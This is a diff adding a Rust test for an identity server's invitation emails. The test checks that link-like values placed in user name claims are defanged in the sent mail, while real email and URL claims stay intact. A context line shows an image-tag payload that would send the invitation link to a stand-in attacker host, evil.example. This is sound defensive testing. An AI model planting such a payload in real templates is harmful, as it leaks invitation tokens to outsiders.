@@ -206,6 +206,54 @@ fn row_15_names_are_text_in_the_mail_and_on_the_page() {
 }
 
 #[test]
+fn row_15_names_make_no_links_and_addresses_stay_addresses() {
+    let claims = [
+        ("givenname", "www.evil.example", "www. evil. example"),
+        ("lastname", "evil.example/x", "evil. example/x"),
+        ("fullname", "Win at evil.com", "Win at evil. com"),
+        ("middlename", "192.0.2.1", "192. 0. 2. 1"),
+        ("displayName", "https://evil\u{3002}com", "https: //evil\u{3002} com"),
+        ("nickName", "J.R.R. St.Clair", "J.R.R. St.Clair"),
+        ("title", "Node.js at https://x", "Node.js at https: //x"),
+        ("username", "kim.example.com", "kim.example.com"),
+        ("emailaddress", "kim@mail.example.com", "kim@mail.example.com"),
+        ("profileUrl", "https://me.example.com/kim", "https://me.example.com/kim"),
+        ("url", "https://me.example.com/kim", "https://me.example.com/kim"),
+        ("photourl", "https://me.example.com/kim.png", "https://me.example.com/kim.png"),
+        ("photos.display", "https://evil.example", "https: //evil.example"),
+        ("employeeNumber", "https://hr.example.com/1", "https://hr.example.com/1"),
+    ];
+    let app = App::new();
+    let named: String = claims.iter().map(|(name, ..)| format!("[{name}: {{{{user.claim.{name}}}}}] ")).collect();
+    let template = json!({
+        "contentType": "text/html", "subject": "Come in", "footer": "",
+        "body": format!("<p>{{{{greeting}}}} {{{{user-name}}}} {named}</p><p>{{{{invitation-link}}}}</p>"),
+    });
+    assert_eq!(app.admin("PUT", &format!("{ASK}/org-templates/en_US"), template.to_string()).status, 200);
+    let user = json!({
+        "userName": "kim.example.com", "displayName": "https://evil\u{3002}com", "nickName": "J.R.R. St.Clair",
+        "title": "Node.js at https://x",
+        "name": {
+            "givenName": "www.evil.example", "familyName": "evil.example/x", "formatted": "Win at evil.com",
+            "middleName": "192.0.2.1",
+        },
+        "emails": [{ "value": "kim@mail.example.com" }], "profileUrl": "https://me.example.com/kim",
+        "photos": [{ "value": "https://me.example.com/kim.png", "display": "https://evil.example" }],
+        "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": { "employeeNumber": "https://hr.example.com/1" },
+        WSO2: { "askPassword": true },
+    });
+    let created = app.admin("POST", "/scim2/Users", user.to_string());
+    assert_eq!(created.status, 201, "{}", created.text);
+    app.deliver();
+    let mail = app.inbox().remove(0);
+    let text = mail["text"].as_str().unwrap();
+    for (name, _, shown) in claims {
+        assert!(text.contains(&format!("[{name}: {shown}]")), "{name} is not {shown}: {text}");
+    }
+    assert!(text.contains("www. evil. example") && !text.contains("www.evil"), "{text}");
+}
+
+#[test]
 fn row_15_opening_a_mail_sends_its_link_to_nobody() {
     let app = App::new();
     let body = "<img src='https://evil.example/{{invitation-link}}'>\
